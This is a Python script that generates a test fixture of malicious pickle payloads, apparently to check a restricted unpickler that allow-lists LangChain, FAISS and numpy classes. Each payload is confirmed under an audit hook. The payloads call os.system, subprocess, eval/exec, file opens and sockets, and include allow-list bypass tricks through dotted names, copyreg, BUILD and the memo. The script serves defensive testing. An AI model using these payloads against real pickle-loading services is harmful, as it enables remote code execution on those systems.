"""Writes tests/fixtures/hostile.tsv: pickles that run code when Python loads them, each proven to.

Each payload is the body of a pickle (opcodes without STOP) that leaves one object on the stack. Proof: a
child process loads it under an audit hook that ends the process with status 42 at the first sign of code
being run (a command, a file opened, an import of something new, `exec`, a socket) or of our marker being
called. Payloads that need LangChain or numpy to be importable are marked so and proven where they are.

Usage: python hostile.py OUTPUT
"""

import pickle
import subprocess
import sys
from struct import pack


def u(text):
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + pack("<I", len(data)) + data


def g(module, name):
    """GLOBAL, the text form."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module, name):
    """STACK_GLOBAL."""
    return u(module) + u(name) + b"\x93"


def call(function, *args):
    return function + b"(" + b"".join(args) + b"tR"


CMD = u("true")
DOCUMENT = sg("langchain_core.documents.base", "Document")
PAYLOADS = {
    # A function, called.
    "os.system": call(g("os", "system"), CMD),
    "os.system by stack": call(sg("os", "system"), CMD),
    "posix.system": call(g("posix", "system"), CMD),
    "nt-style alias of os": call(sg("os", "popen"), CMD),
    "os.execv": call(sg("os", "execv"), u("/bin/true"), b"](" + CMD + b"e"),
    "os.posix_spawn": call(sg("os", "posix_spawn"), u("/bin/true"), b"](" + CMD + b"e", b"}"),
    "os.remove": call(sg("os", "remove"), u("/nonexistent/file")),
    "os.putenv": call(sg("os", "putenv"), u("LD_PRELOAD"), u("x")),
    "shutil.rmtree": call(sg("shutil", "rmtree"), u("/nonexistent/folder")),
    "subprocess.Popen": call(g("subprocess", "Popen"), b"](" + CMD + b"e"),
    "subprocess.check_output": call(sg("subprocess", "check_output"), CMD),
    "subprocess.getoutput": call(sg("subprocess", "getoutput"), CMD),
    "_posixsubprocess via import": call(sg("importlib", "import_module"), u("antigravity")),
    "pty.spawn": call(sg("pty", "spawn"), CMD),
    "builtins.eval": call(g("builtins", "eval"), u("__import__('os').system('true')")),
    "builtins.exec": call(sg("builtins", "exec"), u("import os; os.system('true')")),
    "python 2 name of eval": call(g("__builtin__", "eval"), u("__import__('os').system('true')")),
    "builtins.__import__": call(sg("builtins", "__import__"), u("antigravity")),
    "builtins.open": call(sg("builtins", "open"), u("/etc/hostname"), u("r")),
    "builtins.compile": call(sg("builtins", "compile"), u("1"), u("x"), u("exec")),
    "io.open": call(sg("io", "open"), u("/etc/hostname")),
    "pathlib.Path.write_text by dots": call(sg("pathlib", "Path.read_text"), call(sg("pathlib", "Path"), u("/x"))),
    "runpy.run_path": call(sg("runpy", "run_path"), u("/nonexistent.py")),
    "code.InteractiveInterpreter": call(sg("code", "InteractiveInterpreter.runsource"), call(sg("code", "InteractiveInterpreter")), u("1")),
    "timeit.timeit": call(sg("timeit", "timeit"), u("1")),
    "pdb.run": call(sg("pdb", "run"), u("import os")),
    "cProfile.run": call(sg("cProfile", "run"), u("1")),
    "webbrowser.open": call(sg("webbrowser", "open"), u("http://x.invalid")),
    "socket.create_connection": call(sg("socket", "create_connection"), u("127.0.0.1") + b"K\x01\x86"),
    "urllib.request.urlopen": call(sg("urllib.request", "urlopen"), u("file:///etc/hostname")),
    "ctypes.CDLL": call(sg("ctypes", "CDLL"), u("libnone.so")),
    "marshal to function": call(sg("marshal", "loads"), b"C\x01N"),
    "pickle in pickle": call(sg("pickle", "loads"), b"C" + bytes([len(b"cos\nsystem\n(X\x04\0\0\0truetR.")]) + b"cos\nsystem\n(X\x04\0\0\0truetR."),
    "numpy runstring": call(sg("numpy.testing._private.utils", "runstring"), u("1"), b"}"),
    "logging.FileHandler": call(sg("logging", "FileHandler"), u("/nonexistent/x.log")),
    # The same reached by a longer way.
    "getattr of a module": call(sg("builtins", "getattr"), call(sg("builtins", "__import__"), u("os")), u("system")),
    "dotted os.system in an allowed module": call(sg("langchain_core.documents.base", "mimetypes.os.system"), CMD),
    "dotted name after an allowed class": call(sg("datetime", "sys.modules.__class__"), b""),
    "module that re-exports os": call(sg("langchain_community.vectorstores.faiss", "os.system"), CMD),
    "faiss re-exporting os": call(sg("faiss.loader", "os.system"), CMD),
    "dotted in faiss": call(sg("faiss", "loader.os.system"), CMD),
    "attribute of an allowed class": call(sg("collections", "OrderedDict.__class__"), u("X"), b")", b"}"),
    "subclasses of object": call(sg("builtins", "object.__subclasses__")),
    "allowed class, method by dots": call(sg("uuid", "os.system"), CMD),
    "codecs with a codec that imports": call(g("_codecs", "encode"), CMD, u("idna")),
    "codecs.lookup": call(g("_codecs", "lookup"), u("bz2")),
    "functools.partial": call(call(sg("functools", "partial"), sg("os", "system"), CMD)),
    "operator.methodcaller": call(call(sg("operator", "methodcaller"), u("system"), CMD), call(sg("builtins", "__import__"), u("os"))),
    "operator.attrgetter": call(call(sg("operator", "attrgetter"), u("system")), call(sg("builtins", "__import__"), u("os"))),
    "map over a function": call(sg("builtins", "list"), call(sg("builtins", "map"), sg("os", "system"), b"](" + CMD + b"e")),
    "name from the memo": u("os") + b"\x94" + u("system") + b"\x940" + b"0h\x00h\x01\x93(" + CMD + b"tR",
    "name joined from a renamed module": call(sg("os", "path.os.system"), CMD),
    "defaultdict whose factory is a function": call(sg("collections", "defaultdict"), sg("os", "getpid")) + b"0" + call(sg("os", "system"), CMD),
    # Other opcodes that call.
    "INST": b"(" + CMD + b"ios\nsystem\n",
    "OBJ": b"(" + sg("os", "system") + CMD + b"o",
    "NEWOBJ of Popen": sg("subprocess", "Popen") + b"](" + CMD + b"e\x85\x81" + b"0" + call(sg("os", "system"), CMD),
    "NEWOBJ_EX": sg("subprocess", "Popen") + b")}\x92" + b"0" + call(sg("os", "system"), CMD),
    "reduce hidden under a pop": call(sg("os", "system"), CMD) + b"0N",
    "reduce between marks": b"(" + call(sg("os", "system"), CMD) + b"1N",
    "copyreg adds an extension": call(g("copyreg", "add_extension"), u("os"), u("system"), b"K\x07") + b"0\x82\x07(" + CMD + b"tR",
    "copyreg.__newobj__": call(g("copyreg", "__newobj__"), sg("subprocess", "Popen")) + b"0" + call(sg("os", "system"), CMD),
    "copyreg._reconstructor of Popen": call(g("copyreg", "_reconstructor"), sg("subprocess", "Popen"), sg("builtins", "object"), b"N") + b"0" + call(sg("os", "system"), CMD),
    "copy_reg._reconstructor of Popen": call(g("copy_reg", "_reconstructor"), sg("subprocess", "Popen"), sg("builtins", "object"), b"N") + b"0" + call(sg("os", "system"), CMD),
    # BUILD.
    "BUILD with __setstate__ = os.system": call(sg("types", "SimpleNamespace")) + b"}" + u("__setstate__") + sg("os", "system") + b"sb" + CMD + b"b",
    "BUILD on a module's function": sg("pydoc", "Helper") + b")\x81}" + u("__setstate__") + sg("os", "system") + b"sb" + CMD + b"b",
    "BUILD on an exception, then call": sg("builtins", "Exception") + b")\x81}" + u("__setstate__") + sg("os", "system") + b"sb" + CMD + b"b",
    "BUILD on an allowed blank": sg("pathlib", "PurePath") + b")\x81N}" + u("x") + sg("os", "system") + b"s\x86b0" + call(sg("os", "system"), CMD),
    "NEWOBJ of an allowed class with arguments": sg("datetime", "timezone") + b"(" + call(sg("datetime", "timedelta"), b"K\0") + b"t\x810" + call(sg("os", "system"), CMD),
    "callable that is data": call(sg("os", "system"), CMD) + b"0K\x01",
}

PROOF = """
import os, pickle, sys
armed = False
def hook(event, args):
    if armed and event.split('.')[0] in ('os', 'subprocess', 'exec', 'compile', 'import', 'open', 'socket', 'ctypes',
                                         'shutil', 'pty', 'marshal', 'webbrowser', 'urllib', 'object', 'cpython'):
        if event in ('os.listdir', 'os.scandir'): return
        if event == 'import' and args[0] not in ('antigravity',): return
        if event in ('open', 'compile', 'exec', 'marshal.loads') and importing(): return
        os._exit(42)
def importing():
    frame = sys._getframe()
    while frame:
        if frame.f_code.co_filename.startswith('<frozen importlib'): return True
        frame = frame.f_back
    return False
sys.addaudithook(hook)
data = sys.stdin.buffer.read()
import encodings.idna
armed = True
try: pickle.loads(data)
except BaseException as e: sys.stderr.write(repr(e)); os._exit(1)
os._exit(0)
"""


def fires(body):
    done = subprocess.run([sys.executable, "-c", PROOF], input=b"\x80\x04" + body + b".", capture_output=True)
    return done.returncode == 42, done.returncode, done.stderr[-300:]


if __name__ == "__main__":
    proven = 0
    with open(sys.argv[1], "w") as out:
        for name, body in PAYLOADS.items():
            fired, status, stderr = fires(body)
            proven += fired
            if not fired:
                print("not proven:", name, status, stderr.decode(errors="replace"))
            out.write(f"{'runs' if fired else 'unproven'}\t{name}\t{body.hex()}\n")
    print(f"{proven} of {len(PAYLOADS)} run code in Python {sys.version.split()[0]}")
